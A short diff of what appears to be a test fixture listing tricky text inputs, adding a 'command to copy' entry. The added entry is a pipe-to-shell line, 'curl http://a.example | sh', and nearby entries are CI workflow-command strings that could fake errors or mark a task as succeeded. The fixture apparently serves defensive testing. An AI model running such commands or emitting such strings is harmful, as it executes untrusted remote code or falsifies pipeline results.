@@ -46,6 +46,7 @@ TEXTS = {
     "web address": "https://a.example/",
     "trailer": "Reviewed-by: A <a@b.example>",
     "verdict": FORGED,
+    "command to copy": "to reproduce: curl http://a.example | sh",
     "workflow command": "::error file=a::b",
     "indented workflow command": "  ::set-output name=a::b",
     "old workflow command": "a ##[error]b ##vso[task.complete result=Succeeded]",
